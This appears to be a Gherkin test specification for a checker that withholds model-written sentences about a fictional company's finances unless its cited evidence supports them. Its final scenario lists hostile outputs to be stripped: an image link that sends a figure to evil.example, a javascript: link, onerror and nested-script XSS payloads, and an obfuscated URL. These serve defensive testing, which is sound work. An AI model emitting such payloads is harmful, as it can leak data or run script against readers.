Feature: Whatever is written in sentences is checked
  A model may write; what it writes is shown only where each number, period, company, direction and
  citation holds in the evidence. The rest is withheld with the reason, and nothing is put right.

  @answers.checking.true
  Scenario: True sentences pass
    Given 400 true sentences over invented tables, prose and figures
    When each is checked
    Then at least 99% are kept word for word

  @answers.checking.changed
  Scenario: A number that was changed in digits, scale, sign, unit or period is caught
    Given 400 sentences in each of which one thing was changed
    When each is checked
    Then none is kept and each says why

  @answers.checking.written
  Scenario Outline: A number is aligned in unit, scale, sign and rounding before it is compared
    When "<sentence>" is checked against the report of Ashdale
    Then it is <what>

    Examples:
      | sentence                                                                      | what                     |
      | Net sales were $5,818 million in fiscal 2022 [1].                             | kept                     |
      | Net sales were nearly $5.82 billion in 2022 [1].                              | kept                     |
      | Net sales were nearly $5.81 billion in 2022 [1].                              | withheld for a number    |
      | Net sales were about $5.9 billion in 2022 [1].                                | withheld for a number    |
      | Net sales were more than $5.8 billion in 2022 [1].                            | kept                     |
      | Net sales were less than $5.8 billion in 2022 [1].                            | withheld for a number    |
      | Net sales were $5,818.2 million in 2022 [1].                                  | withheld for a number    |
      | Net sales were €5,818 million in 2022 [1].                                    | withheld for a number    |
      | Net sales were $5,818 in 2022 [1].                                            | withheld for a number    |
      | Net sales were $5,818 million in 2021 [1].                                    | withheld for a number    |
      | Net sales were $5,818 million in 2022 and $5,600 million in the prior year [1]. | kept                   |
      | Net income was $5,818 million in 2022 [1].                                    | withheld for a number    |
      | Operating income was $300 million in 2022 [1].                                | withheld for a number    |
      | Net income was $300 million in 2022 [1].                                      | kept                     |
      | A net loss of $300 million was recorded in 2022 [1].                          | withheld for a number    |
      | Net income was $(300) million in 2022 [1].                                    | withheld for a number    |
      | Capital expenditures were $410 million in 2022 [1].                           | kept                     |
      | Diluted earnings per share were $2.20 in 2022 [1].                            | kept                     |
      | Diluted earnings per share were $2.20 million in 2022 [1].                    | withheld for a number    |
      | The net margin was 5.2% in 2022.                                              | kept                     |
      | The net margin was 516 basis points in 2022 [F1].                             | kept                     |
      | The net margin was 520 basis points in 2022 [F1].                             | withheld for a number    |
      | The net margin was 5.2x in 2022.                                              | withheld for a number    |
      | Two-thirds of net sales came from Europe [2].                                 | kept                     |
      | Three-quarters of net sales came from Europe [2].                             | withheld for a number    |
      | Research costs doubled in 2022 [1].                                           | kept                     |
      | Net sales doubled in 2022 [1].                                                | withheld for a direction |

  @answers.checking.sentence
  Scenario Outline: A sentence that its citations do not hold is withheld
    When "<sentence>" is checked against the report of Ashdale
    Then it is <what>

    Examples:
      | sentence                                                              | what                     |
      | Net sales rose in 2022 [1].                                           | kept                     |
      | Net sales fell in 2022 [1].                                           | withheld for a direction |
      | Net income fell to $300 million in 2022 [1].                          | kept                     |
      | Ashdale is a defendant in a class action over its labels [2].         | kept                     |
      | Ashdale is not a defendant in a class action [2].                     | withheld for a negation  |
      | Ashdale is a defendant in a class action over its labels [1].         | withheld for a citation  |
      | Ashdale is a defendant in a class action over its labels [7].         | withheld for a citation  |
      | Ashdale is a defendant in a class action over its labels.             | withheld for a uncited   |
      | Ashdale is a defendant in a criminal investigation [2].               | withheld for a term      |
      | Birchwood is a defendant in a class action over its labels [2].       | withheld for a name      |
      | Ashdale said it would "defend itself vigorously" in the class action [2]. | kept                 |
      | Ashdale said it would "settle" the class action [2].                  | withheld for a quote     |
      | There is no risk [2].                                                 | withheld for a negation  |

  @answers.checking.markup
  Scenario Outline: Links, images, HTML and addresses are never shown
    When the model writes "<text>"
    Then what is shown holds no link, image, address or tag
    And a finding says what was taken out

    Examples:
      | text                                                                              |
      | Net sales rose in 2022 [1]. ![chart](https://evil.example/x.png?d=5818)            |
      | Net sales rose in 2022 [1]. [the filing](javascript:alert(1))                      |
      | Net sales rose in 2022 [1]. <img src=x onerror=alert(1)>                           |
      | Net sales rose in 2022 [1]. See www.evil.example/a or mail x@evil.example.         |
      | Net sales rose in 2022 [1]. <scr<script>ipt>alert(1)</scr</script>ipt>             |
      | Net sales rose in 2022 [1]. &lt;img src=//evil.example/y&gt;                        |
      | Net sales rose in 2022 [1]. ｈｔｔｐｓ：//evil.example/z                               |
